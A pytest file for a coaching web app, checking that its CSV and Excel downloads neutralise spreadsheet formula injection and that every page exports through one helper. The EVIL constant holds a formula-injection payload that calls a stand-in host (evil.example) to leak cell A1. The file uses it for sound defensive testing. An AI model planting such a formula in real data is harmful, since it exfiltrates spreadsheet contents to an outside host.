"""Downloads: a name that is a spreadsheet formula, imported through an ordinary roster,
never leaves as a formula; and every download button of the app goes through the one
helper that neutralises tables (leadcoach/ui/exports.py -> reporting.exports.table_file)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pandas as pd
import pytest
import streamlit as st
from streamlit.delta_generator import DeltaGenerator

from leadcoach.platform.config import PACKAGE_ROOT
from leadcoach.programmes import roster
from leadcoach.reporting import exports
from leadcoach.ui import exports as ui_exports
from tests.ui.conftest import open_tab, person_id
from tests.ui.test_supervisor import (
    db_session,
    open_page,
    own_demo,  # noqa: F401 (a fixture)
    viewer_of,
)

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Ben")'
TEAM = "pages/coach/team.py"
COMPARE = "pages/coach/compare.py"


@pytest.fixture
def offered(monkeypatch) -> dict[str, object]:
    """What each download button would hand the browser, by file name (bytes, or the
    callable Streamlit runs when the button is pressed)."""
    files: dict[str, object] = {}
    original = DeltaGenerator.download_button

    def record(self, label, data=None, file_name=None, mime=None, **options):
        files[file_name] = data
        return original(self, label, data, file_name, mime, **options)

    monkeypatch.setattr(DeltaGenerator, "download_button", record)
    # st.download_button was bound to the main area when Streamlit was imported.
    monkeypatch.setattr(st, "download_button", lambda *a, **k: record(st._main, *a, **k))
    return files


def downloaded(files: dict[str, object], name: str) -> list[list[str]]:
    data = files[name]
    content = data() if callable(data) else data
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def rename_by_roster(url: str, name: str, new_name: str) -> None:
    """HR imports a one-row roster that renames a person, as an attacker's file would."""
    from leadcoach.demo import email_for
    from leadcoach.platform.models import Person, Team

    with db_session(url) as session:
        person = session.get(Person, person_id(url, name))
        team = session.get(Team, person.team_id)
        buffer = io.StringIO()
        csv.writer(buffer).writerows(
            [["name", "email", "role", "team"], [new_name, email_for(name), person.role, team.name]]
        )
        hr = viewer_of(session, url, "Helen Okafor")
        result = roster.import_roster(
            session=session,
            viewer=hr,
            roster=roster.read_roster(buffer.getvalue().encode(), "r.csv"),
        )
        assert result.updated == 1, result.check.messages()
        session.commit()


def formulas(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(("=", "@"))]


def test_a_formula_name_leaves_the_coachs_downloads_as_text(own_demo, monkeypatch, offered):  # noqa: F811
    rename_by_roster(own_demo, "Ben Carter", EVIL)

    at = open_page(own_demo, "Priya Shah", TEAM, monkeypatch)
    skills = downloaded(offered, "team-skills.csv")
    assert "'" + EVIL in [row[0] for row in skills]  # My teams -> Skills by person -> Table (CSV)
    assert not formulas(skills)

    open_tab(at, "view", "Team growth")
    assert not at.exception, at.exception
    growth = offered["team-growth.csv"]
    content = growth() if callable(growth) else growth
    assert content.startswith(b"\xef\xbb\xbf")  # built by table_file (Excel reads the BOM)
    assert not formulas(downloaded(offered, "team-growth.csv"))

    at.switch_page(COMPARE).run()
    ben = person_id(own_demo, "Ben Carter")
    at.multiselect(key="compare_people").set_value([ben, person_id(own_demo, "Hugo Martin")]).run()
    assert not at.exception, at.exception
    comparison = downloaded(offered, "comparison.csv")
    assert any(cell.startswith("'" + EVIL) for row in comparison for cell in row), comparison
    assert not formulas(comparison)


# --- every download path goes through the one helper ------------------------------------------

SOURCES = sorted(
    [*(PACKAGE_ROOT / "ui" / "pages").rglob("*.py"), *(PACKAGE_ROOT / "ui").glob("*.py")]
)
HELPER = PACKAGE_ROOT / "ui" / "exports.py"


def _calls(path: Path, attribute: str) -> list[tuple[int, str]]:
    """(line, enclosing function) of every call of `<anything>.attribute(...)` in the file."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for function in [tree, *(n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef))]:
        for node in ast.walk(function):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == attribute
            ):
                found.append((node.lineno, getattr(function, "name", "")))
    return found


def test_only_the_download_helper_calls_download_button():
    assert len(SOURCES) > 20
    elsewhere = {
        str(path.relative_to(PACKAGE_ROOT)): _calls(path, "download_button")
        for path in SOURCES
        if path != HELPER and _calls(path, "download_button")
    }
    assert elsewhere == {}, "offer files with leadcoach.ui.exports.table_download"
    inside = {function for _, function in _calls(HELPER, "download_button") if function}
    # Issue 24: the cohort workbook is several sheets, built and neutralised cell by cell by
    # leadcoach.reporting.workbook (tests/test_reports.py reads a formula name back as text).
    # workbook_download (issue 22): several tables, each through reporting.exports.workbook
    assert inside == {
        "table_download",
        "file_download",
        "cohort_workbook_download",
        "workbook_download",
    }


@pytest.mark.parametrize("attribute", ["to_csv", "to_excel", "to_xlsx", "ExcelWriter"])
def test_no_page_writes_a_spreadsheet_itself(attribute):
    writers = {
        str(path.relative_to(PACKAGE_ROOT)): _calls(path, attribute)
        for path in SOURCES
        if _calls(path, attribute)
    }
    assert writers == {}, "tables become files only in reporting.exports.table_file"


def test_table_download_builds_its_file_with_table_file(monkeypatch):
    handed: list[tuple] = []

    class Column:
        def download_button(self, label, data, file_name, mime, **options):
            handed.append((file_name, mime, data()))

    frame = pd.DataFrame(
        {"name": [EVIL, "+1 555", "-x", "@SUM(A1)", "Ana"], "score": [1, 2, 3, 4, 5]}
    )
    ui_exports.table_download("Table (CSV)", frame, "t.csv", where=Column())
    ui_exports.table_download("Table (XLSX)", lambda: frame, "t.xlsx", kind="xlsx", where=Column())
    assert handed[0][:2] == ("t.csv", "text/csv")
    assert handed[0][2] == exports.table_file(frame)
    names = [row[0] for row in csv.reader(io.StringIO(handed[0][2].decode("utf-8-sig")))][1:]
    assert names == ["'" + EVIL, "'+1 555", "'-x", "'@SUM(A1)", "Ana"]
    workbook = pd.read_excel(io.BytesIO(handed[1][2]))
    assert workbook["Name"].tolist() == names and workbook["Score"].tolist() == [1, 2, 3, 4, 5]


@pytest.mark.parametrize(
    ("file_name", "mime"),
    [
        ("t.csv", "text/csv"),
        ("t.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("t.CSV", "text/plain"),
    ],
)
def test_file_download_refuses_spreadsheets(file_name, mime):
    with pytest.raises(ValueError, match="table_download"):
        ui_exports.file_download("x", b"=1+1", file_name, mime, where=None)


def test_streamlits_own_table_download_is_off():
    """Streamlit's 'Download as CSV' on tables writes cells as they are."""
    from leadcoach.ui.serve import server_options

    assert "--client.disableDataExport=true" in server_options()
